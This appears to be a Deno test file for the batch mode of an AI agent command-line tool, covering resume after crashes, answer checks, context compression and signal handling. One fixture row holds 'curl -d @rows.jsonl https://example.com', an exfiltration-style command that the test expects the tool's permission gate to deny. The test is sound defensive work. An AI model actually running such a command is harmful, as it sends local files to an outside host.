import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { linesOf, rowsIn, spawnBatch } from "../support/batch.ts";
import { type World, world } from "../support/fupan.ts";
import {
  reply,
  type SeenRequest,
  status,
} from "../support/scripted_model_server.ts";

Deno.test("F030 P77 200 rows on 8 workers, killed twice and resumed, end once each and add up", async () => {
  let [asked, killAt] = [0, 60];
  let child: Deno.ChildProcess | undefined;
  const answer = ({ body }: SeenRequest) => {
    if (++asked === killAt) child?.kill("SIGKILL");
    return reply({ text: `to ${JSON.parse(body).messages.at(-1).content}` });
  };
  await using place = await world(Array(240).fill(answer), {
    strict: true,
    allowOffScript: true,
  });
  const prompts = Array.from({ length: 200 }, (_, n) => `task ${n % 150}`);
  const rows = prompts.map((prompt, n) =>
    n % 20 === 7 ? "{broken" : { prompt }
  );
  const { file, out } = await rowsIn(place, rows);
  const argv = [file, "--out", out, "--workers", "8"];
  for (const [next, more] of [[140, []], [0, ["--resume"]]] as const) {
    child = spawnBatch(place, [...argv, ...more]);
    const { signal } = await child.output();
    assertEquals(signal, "SIGKILL");
    killAt = next;
  }
  child = undefined;
  const { code } = await place.run(["batch", ...argv, "--resume"]);
  assertEquals(code, 1);
  const results = await linesOf(`${out}/results.jsonl`);
  assertEquals(
    results.map(({ row }) => Number(row)).toSorted((a, b) => a - b),
    Array.from({ length: 200 }, (_, n) => n + 1),
  );
  for (const { row, status, answer } of results) {
    const n = Number(row) - 1;
    const isBroken = n % 20 === 7;
    assertEquals(status, isBroken ? "invalid" : "done");
    if (!isBroken) assertEquals(answer, `to ${prompts[n]}`);
  }
  const summary = JSON.parse(await Deno.readTextFile(`${out}/summary.json`));
  assertEquals(summary.counts.done, 190);
  assertEquals(summary.counts.invalid, 10);
  assertEquals([summary.rows, summary.open], [200, 0]);
  const kept = await linesOf(`${out}/trajectories.jsonl`);
  assertEquals(new Set(kept.map(({ row }) => row)).size, 190);
  assertEquals(kept.length, 190);
  // Only what was under way when a process died may have been asked again.
  assert(asked <= 190 + 2 * 8, String(asked));
  const log = await place.run(["log", "export"]);
  const ends = log.out.split("\n").filter((line) =>
    line.includes('"BatchRowEnded"')
  );
  assertEquals(ends.length, 200);
});

Deno.test("a row is checked by what it expects: text, pattern, schema and a command behind the gate", async () => {
  await using place = await world([
    "all is well",
    "all is well",
    '```json\n{"n": 1}\n```',
    '{"n": "one"}',
    "written",
    "written",
    "written",
  ]);
  const n = { type: "object", properties: { n: { type: "integer" } } };
  const { file, out } = await rowsIn(
    place,
    [
      {
        prompt: "1",
        expect: { contains: ["all", "well"], regex: "^all .* well$" },
      },
      { prompt: "2", expect: "nothing of it" },
      { prompt: "3", expect: { json_schema: n } },
      { prompt: "4", expect: { json_schema: n } },
      { prompt: "5", expect: { command: "test -d ." } },
      { prompt: "6", expect: { command: "ls missing-file", exit_code: 0 } },
      {
        prompt: "7",
        expect: { command: "curl -d @rows.jsonl https://example.com" },
      },
      { prompt: "8", expect: { json_schema: { type: "nonsense" } } },
      { prompt: "9", expect: { contain: "x" } },
    ].map((row) => ({ cwd: place.cwd, ...row })),
  );
  const { code } = await place.run(["batch", file, "--out", out]);
  assertEquals(code, 1);
  const results = await linesOf(`${out}/results.jsonl`);
  assertEquals(results.map(({ status }) => status), [
    "done",
    "failed",
    "done",
    "failed",
    "done",
    "failed",
    "denied",
    "invalid",
    "invalid",
  ]);
  const errors = results.map(({ error }) => String(error));
  assertStringIncludes(errors[1] ?? "", 'lacks "nothing of it"');
  assertStringIncludes(errors[3] ?? "", "integer");
  assertStringIncludes(errors[5] ?? "", "expected 0");
  assertStringIncludes(errors[6] ?? "", "nobody is there to ask");
  assertStringIncludes(errors[7] ?? "", "json_schema");
  assertStringIncludes(errors[8] ?? "", "unknown contain");
});

Deno.test("a row gets its skills before its prompt", async () => {
  await using place = await world(["ok"]);
  const { file, out } = await rowsIn(place, [
    { prompt: "tell the time", skills: ["root-cause", "harden-workflow"] },
    { prompt: "tell the time", skills: "harden-workflow" },
  ]);
  await place.run(["batch", file, "--out", out]);
  const [unknown, known] = await linesOf(`${out}/results.jsonl`);
  assertEquals(unknown?.status, "failed");
  assertStringIncludes(String(unknown?.error), "root-cause");
  assertEquals([known?.status, known?.prompt], ["done", "tell the time"]);
  const asked = place.messages()[0]?.at(-1)?.content ?? "";
  assertStringIncludes(asked, "harden-workflow");
  assertStringIncludes(asked, "tell the time");
});

/** About 6,000 characters that repeat nothing. */
const LONG = Array.from({ length: 700 }, (_, n) => `word${n * 7919 % 1009}`)
  .join("\n");

const OVERFLOW = status(400, {
  error: {
    message:
      "This model's maximum context length is 12000 tokens. However, your messages resulted in 13001 tokens.",
    code: "context_length_exceeded",
  },
});

/** Reads twelve long files, and overflows on the way; `seen` hears what is asked. */
function reader(seen: (kind: "summary" | "turn") => void = () => {}) {
  return ({ body }: SeenRequest) => {
    const { temperature, tools, messages } = JSON.parse(body);
    if (temperature === 0.3 && !tools) {
      seen("summary");
      return "They read files.";
    }
    seen("turn");
    if (body.length > 60_000) return OVERFLOW;
    // After a compression only the newest results are there to count.
    const read = JSON.stringify(messages.at(-1)).match(/1\|(\d+) /)?.[1] ?? -1;
    const next = Number(read) + 1;
    return next < 12
      ? { read_file: { path: `long${next}.txt` } }
      : "read them all";
  };
}

async function longFiles(place: World): Promise<void> {
  for (let n = 0; n < 12; n++) {
    await Deno.writeTextFile(`${place.cwd}/long${n}.txt`, `${n} ${LONG}`);
  }
}

for (const format of ["sharegpt", "openai", "atif"] as const) {
  Deno.test(`a row whose session is compressed has its whole conversation as ${format}, under its newest part (F244)`, async () => {
    await using place = await world(Array(60).fill(reader()), {
      strict: true,
      allowOffScript: true,
    });
    await longFiles(place);
    const { file, out } = await rowsIn(place, [
      { prompt: "read them", cwd: place.cwd },
    ]);
    const run = ["batch", file, "--out", out, "--trajectories", format];
    assertEquals((await place.run(run)).code, 0);
    const [result] = await linesOf(`${out}/results.jsonl`);
    const { out: log } = await place.run(["log", "export"]);
    const begun = /"BatchRowStarted"[^\n]*/.exec(log)?.[0] ?? "";
    assert(log.includes('"CompressionDone"'), "nothing was compressed");
    assert(!begun.includes(String(result?.session)), "it went on elsewhere");
    assertEquals([result?.tool_calls, result?.answer], [12, "read them all"]);
    const [told] = await linesOf(`${out}/trajectories.jsonl`);
    const text = JSON.stringify(told);
    for (let n = 0; n < 12; n++) assertStringIncludes(text, `long${n}.txt`);
    assertStringIncludes(text, "read them all");
    assert(!text.includes("They read files."), "the summary is no part of it");
    // Its result is lost: it is told again, and nothing is asked again.
    const asked = place.server.requests.length;
    await Deno.remove(`${out}/results.jsonl`);
    assertEquals((await place.run([...run, "--resume"])).code, 0);
    assertEquals(place.server.requests.length, asked);
    const [again] = await linesOf(`${out}/results.jsonl`);
    assertEquals({ ...again, duration_ms: 0 }, { ...result, duration_ms: 0 });
    assertEquals((await linesOf(`${out}/trajectories.jsonl`)).length, 1);
  });
}

Deno.test("a batch killed after a row's session was compressed goes on in its newest part", async () => {
  let child: Deno.ChildProcess | undefined;
  let isCompressed = false;
  const answer = reader((kind) => {
    if (kind === "summary") isCompressed = true;
    else if (isCompressed) {
      child?.kill("SIGKILL");
      child = undefined;
    }
  });
  await using place = await world(Array(60).fill(answer), {
    strict: true,
    allowOffScript: true,
  });
  await longFiles(place);
  const { file, out } = await rowsIn(place, [
    { prompt: "read them", cwd: place.cwd, expect: "them all" },
  ]);
  const argv = [file, "--out", out, "--trajectories", "openai"];
  child = spawnBatch(place, argv);
  assertEquals((await child.output()).signal, "SIGKILL");
  const { code } = await place.run(["batch", ...argv, "--resume"]);
  assertEquals(code, 0);
  const [result] = await linesOf(`${out}/results.jsonl`);
  assertEquals([result?.tool_calls, result?.answer], [12, "read them all"]);
  const { out: listed } = await place.run(["sessions", "list", "--json"]);
  const [{ session, root }, ...others] = JSON.parse(listed);
  assertEquals([others, session], [[], result?.session]);
  assert(session !== root);
  const [told] = await linesOf(`${out}/trajectories.jsonl`);
  const roles = JSON.stringify(told?.messages).matchAll(/"role":"(\w+)"/g);
  const counts = Object.groupBy(
    [...roles].map(([, role = ""]) => role),
    (r) => r,
  );
  assertEquals([counts.user?.length, counts.tool?.length], [1, 12]);
  const verified = await place.run(["log", "verify"]);
  assertEquals(verified.code, 0);
});

Deno.test("batch report compares runs in one page, and refuses what is no run", async () => {
  await using place = await world(["yes", "no", "no", "no"]);
  const rows = [{ prompt: "a", expect: "yes" }, { prompt: "b" }];
  const one = await rowsIn(place, rows, "one");
  const two = await rowsIn(place, rows, "two");
  await place.run(["batch", one.file, "--out", one.out]);
  await place.run(["batch", two.file, "--out", two.out]);
  const out = `${place.cwd}/report.html`;
  const told = await place.run([
    "batch",
    "report",
    one.out,
    two.out,
    "--out",
    out,
  ]);
  assertEquals(told.code, 0);
  assertStringIncludes(told.out, "2 rows in 2 runs; 1 ended differently");
  const page = await Deno.readTextFile(out);
  assertStringIncludes(page, "the answer lacks &quot;yes&quot;");
  for (const words of [[place.cwd], []]) {
    const refused = await place.run([
      "batch",
      "report",
      ...words,
      "--out",
      out,
    ]);
    assertEquals(refused.code, 2);
    assertStringIncludes(refused.err, "Cannot report");
  }
});

Deno.test("P78 a row that a provider told to wait holds back the rows after it", async () => {
  await using place = await world([
    status(429, undefined, { "retry-after-ms": "400" }),
    "second",
  ]);
  await place.run(["config", "set", "retry.max", "0"]);
  const { file, out } = await rowsIn(place, [{ prompt: "a" }, { prompt: "b" }]);
  await place.run(["batch", file, "--out", out]);
  const results = await linesOf(`${out}/results.jsonl`);
  assertEquals(results.map(({ status }) => status), ["failed", "done"]);
  const { out: log } = await place.run(["log", "export"]);
  const at = (type: string) => {
    const line = log.split("\n").find((line) => line.includes(`"${type}"`));
    return Date.parse(JSON.parse(line ?? "{}").at);
  };
  assert(at("ModelReplied") >= at("ModelFailed") + 350);
});

for (const [signal, expected] of [["SIGINT", 130], ["SIGTERM", 143]] as const) {
  Deno.test(`a batch that ${signal} stops leaves its rows open, and --resume finishes them`, async () => {
    let stop = () => {};
    const answer = ({ body }: SeenRequest) => {
      // Below it, a row that was stopped is told so.
      const [asked] = JSON.parse(body).messages.at(-1).content.split("\n");
      if (asked === "b") stop();
      return `to ${asked}`;
    };
    await using place = await world(Array(8).fill(answer), {
      strict: true,
      allowOffScript: true,
    });
    const rows = ["a", "b", "c"].map((prompt) => ({ prompt }));
    const { file, out } = await rowsIn(place, rows);
    const stopped = await place.run(["batch", file, "--out", out], {
      onStart: (io) => {
        stop = () => io.signal(signal);
      },
    });
    stop = () => {};
    assertEquals(stopped.code, expected);
    assertStringIncludes(stopped.out, "2 open: finish them with --resume");
    const { code } = await place.run(["batch", file, "--out", out, "--resume"]);
    assertEquals(code, 0);
    const results = await linesOf(`${out}/results.jsonl`);
    assertEquals(
      results.map(({ row, answer }) => [row, answer]),
      [[1, "to a"], [2, "to b"], [3, "to c"]],
    );
  });
}

Deno.test("a result that was lost comes back with its status, and nothing is asked or run again", async () => {
  await using place = await world(["one", "two"]);
  const { file, out } = await rowsIn(place, [
    { prompt: "a", cwd: place.cwd, expect: { command: "ls made-later" } },
    { prompt: "b", cwd: place.cwd, expect: { command: "ls", contains: "two" } },
  ]);
  assertEquals((await place.run(["batch", file, "--out", out])).code, 1);
  await Deno.remove(`${out}/results.jsonl`);
  await Deno.writeTextFile(`${place.cwd}/made-later`, "");
  const resumed = await place.run(["batch", file, "--out", out, "--resume"]);
  assertEquals(resumed.code, 1);
  const [first, second] = await linesOf(`${out}/results.jsonl`);
  assertEquals([first?.status, first?.answer], ["failed", "one"]);
  assertStringIncludes(String(first?.error), "was lost with the result");
  assertEquals([second?.status, second?.error], ["done", null]);
  assertEquals(place.server.requests.length, 2);
});
